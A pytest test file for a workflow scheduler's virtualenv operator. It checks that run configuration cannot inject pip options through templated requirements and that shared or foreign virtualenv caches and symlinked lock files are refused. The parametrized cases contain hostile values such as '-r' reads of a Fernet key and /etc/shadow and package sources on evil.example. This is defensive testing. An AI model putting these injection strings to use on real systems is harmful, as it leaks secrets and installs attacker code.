"""A virtualenv's requirements and cache are code a try runs, so neither may be chosen by
someone who only triggers runs or shares the machine. The attacks: a run's conf that turns a
templated requirement into pip options (``-r <home>/fernet.key`` printed the key into the
try's log), and a virtualenv cache another user can plant a ready virtualenv or a symbolic
link in."""

from __future__ import annotations

import os
import stat
import sys
from pathlib import Path

import pytest

from conveyor.connections import repository
from conveyor.exceptions import TaskError
from conveyor.operators._requirements import checked_requirements
from conveyor.operators.virtualenv import READY, ensure_venv, venv_key
from conveyor.states import TaskState
from conveyor.store.engine import Store
from conveyor.worker.runner import log_path_for
from run_env import Env

TEMPLATED = """
    from conveyor import PythonVirtualenvOperator

    def hello():
        return "hi"

    with DAG("pipvenv", start_date=START, params={"pkg": "six"}):
        PythonVirtualenvOperator(
            task_id="install", python_callable=hello, requirements=["{{ params.pkg }}"],
            venv_cache_path="@TMP@/venvs",
        )
"""


def test_conf_cannot_turn_a_templated_requirement_into_pip_options(
    tmp_path: Path, store: Store
) -> None:
    dags = tmp_path / "dags"
    dags.mkdir()
    env = Env(tmp_path, dags, store)
    settings = env.settings()
    repository.set_variable(store, settings, "seed", "s33d", secret=True)  # makes the key
    key = (settings.home / "fernet.key").read_text().strip()
    env.write_dag("pipvenv.py", TEMPLATED)
    env.sync()
    run_pk = env.trigger("pipvenv", conf={"pkg": f"-r{settings.home}/fernet.key"})
    env.run(run_pk, limit=120)
    assert env.states(run_pk) == {"install": TaskState.FAILED}
    run = env.dag_runs("pipvenv")[0]
    log = log_path_for(settings, "pipvenv", run.run_id, "install", 1).read_text()
    assert "is not a package requirement" in log, log
    assert key not in log
    assert not list((tmp_path / "venvs").glob("*/bin"))  # refused before pip ran


@pytest.mark.parametrize(
    "typed",
    [
        "-r /home/ops/.conveyor/fernet.key",
        "--index-url=https://evil.example/simple",
        "-e git+https://evil.example/pkg.git#egg=pkg",
        "six @ https://evil.example/six.whl",
        "./evil_pkg",
        "/tmp/evil_pkg",
        "https://evil.example/six.whl",
        "six --index-url https://evil.example/simple",
        "six\n-r /etc/shadow",
    ],
)
def test_templated_requirements_that_are_not_packages_are_refused(typed: str) -> None:
    with pytest.raises(TaskError, match="not a package requirement"):
        checked_requirements("t", ["{{ params.pkg }}"], [typed], trusted=False)


def test_package_requirements_from_templates_and_the_dags_own_options_pass() -> None:
    declared = ["-r requirements.txt", "{{ params.pkg }}"]
    rendered = ["-r requirements.txt", "pandas[sql]>=2.2; python_version >= '3.9'\nsix==1.16"]
    assert checked_requirements("t", declared, rendered, trusted=False) == [
        "-r requirements.txt",
        "pandas[sql]>=2.2; python_version >= '3.9'",
        "six==1.16",
    ]
    # The DAG may say it trusts its templates.
    assert checked_requirements("t", ["{{ x }}"], ["--pre"], trusted=True) == ["--pre"]


def _planted(cache: Path, flag: Path) -> Path:
    """A 'ready' virtualenv whose python records that it ran."""
    folder = cache / venv_key(sys.executable, [], True, [])
    (folder / "bin").mkdir(parents=True)
    python = folder / "bin" / "python"
    python.write_text(f"#!/bin/sh\ntouch {flag}\n")
    python.chmod(0o755)
    (folder / READY).write_text("{}")
    return python


def test_a_cache_others_may_write_to_is_not_trusted(tmp_path: Path) -> None:
    cache = tmp_path / "shared-venvs"
    cache.mkdir()
    _planted(cache, tmp_path / "ran")
    cache.chmod(0o777)  # as /tmp-like shared folders are
    with pytest.raises(TaskError, match="may be written by others"):
        ensure_venv(cache, sys.executable, [])
    assert not (tmp_path / "ran").exists()


def test_a_shared_sticky_cache_gets_a_private_folder_of_this_users(tmp_path: Path) -> None:
    # /tmp as Airflow files name it (venv_cache_path=tempfile.gettempdir()): mode 1777.
    cache = tmp_path / "like-tmp"
    cache.mkdir()
    _planted(cache, tmp_path / "ran")  # what another user put in the shared folder itself
    cache.chmod(0o1777)
    python = ensure_venv(cache, sys.executable, [])
    own = cache / f"conveyor-venvs-{os.geteuid()}"
    assert python.is_relative_to(own) and python.exists()
    assert stat.S_IMODE(own.stat().st_mode) == 0o700
    assert not (tmp_path / "ran").exists()


@pytest.mark.skipif(os.geteuid() != 0, reason="giving a folder to another user needs root")
def test_a_cache_or_virtualenv_of_another_user_is_not_trusted(tmp_path: Path) -> None:
    cache = tmp_path / "venvs"
    cache.mkdir(mode=0o700)
    python = _planted(cache, tmp_path / "ran")
    os.chown(python.parent.parent, 65534, 65534)
    with pytest.raises(TaskError, match="not a folder of this user's"):
        ensure_venv(cache, sys.executable, [])
    os.chown(cache, 65534, 65534)
    with pytest.raises(TaskError, match="belongs to user id 65534"):
        ensure_venv(cache, sys.executable, [])
    assert not (tmp_path / "ran").exists()


def test_the_lock_file_is_never_opened_through_a_symbolic_link(tmp_path: Path) -> None:
    cache = tmp_path / "venvs"
    cache.mkdir(mode=0o700)
    victim = tmp_path / "precious.txt"
    victim.write_text("keep me")
    key = venv_key(sys.executable, [], True, [])
    (cache / f"{key}.lock").symlink_to(victim)
    with pytest.raises(TaskError, match="cannot be opened safely"):
        ensure_venv(cache, sys.executable, [])
    assert victim.read_text() == "keep me"
    assert stat.S_IMODE(cache.stat().st_mode) == 0o700
